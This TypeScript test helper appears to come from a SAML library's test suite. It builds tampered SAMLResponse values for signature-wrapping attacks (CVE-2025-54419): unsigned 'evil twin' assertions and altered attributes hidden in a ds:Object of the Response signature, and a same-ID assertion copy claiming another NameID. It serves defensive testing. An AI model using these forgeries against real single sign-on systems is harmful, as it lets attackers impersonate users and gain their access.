/**
 * Attacks that leave every signature valid and put other content where it is NOT covered by any
 * signed reference, for an SP that reads its profile from the raw document rather than from the
 * signed bytes (CVE-2025-54419). Inputs and outputs are base64 `SAMLResponse` values.
 */
import {
  assertionOf,
  editResponse,
  evilTwin,
  setAttributeValues,
  setNameId,
  signatureOf,
} from '../support/saml-tamper/tamper-dom.js';
import { childElement, elementsByName, NS_DS, NS_SAML } from '../../src/testing/test-idp/xml-dom.js';

/**
 * Hides `content` in a `ds:Object` of the Response's own signature. The enveloped-signature
 * transform drops that whole element from the Response digest, and it lies outside the Assertion,
 * so both signatures still verify. The Response signature precedes the Assertion, so a reader
 * taking the first match in document order finds the hidden content.
 */
function hideInResponseSignature(saml: string, content: (doc: Document, signed: Element) => Element): string {
  return editResponse(saml, (doc, response) => {
    const signature = signatureOf(response);
    if (!signature) throw new Error('The Response is not signed');
    const object = doc.createElementNS(NS_DS, 'ds:Object');
    object.appendChild(content(doc, assertionOf(response)));
    signature.appendChild(object);
  });
}

/** An unsigned assertion for `nameId` (an evil twin of the signed one) hidden outside every signed reference. */
export function nameIdOutsideSignedReference(saml: string, nameId: string): string {
  return hideInResponseSignature(saml, (_doc, signed) => evilTwin(signed, nameId));
}

/**
 * The signed assertion's attribute statement, with `name` set to `values`, hidden outside every
 * signed reference (the genuine statement is untouched).
 */
export function attributeOutsideSignedReference(saml: string, name: string, values: string[]): string {
  return hideInResponseSignature(saml, (doc, signed) => {
    const statement = elementsByName(signed, NS_SAML, 'AttributeStatement')[0];
    if (!statement) throw new Error('The assertion has no AttributeStatement');
    const copy = doc.importNode(statement, true);
    // It only searches below the element it is given, so the statement itself will do.
    setAttributeValues(copy, name, values);
    return copy;
  });
}

/**
 * The signed assertion kept in place, followed by a copy claiming `nameId` that keeps the same ID
 * and a byte-for-byte copy of the genuine signature: an ID lookup finds the genuine one first,
 * a reader taking the last assertion gets the copy.
 */
export function sameIdTwinAfterSignedAssertion(saml: string, nameId: string): string {
  return editResponse(saml, (_doc, response) => {
    const signed = assertionOf(response);
    const twin = signed.cloneNode(true) as Element;
    setNameId(twin, nameId);
    if (!childElement(twin, NS_DS, 'Signature')) throw new Error('The assertion is not signed');
    response.insertBefore(twin, signed.nextSibling);
  });
}
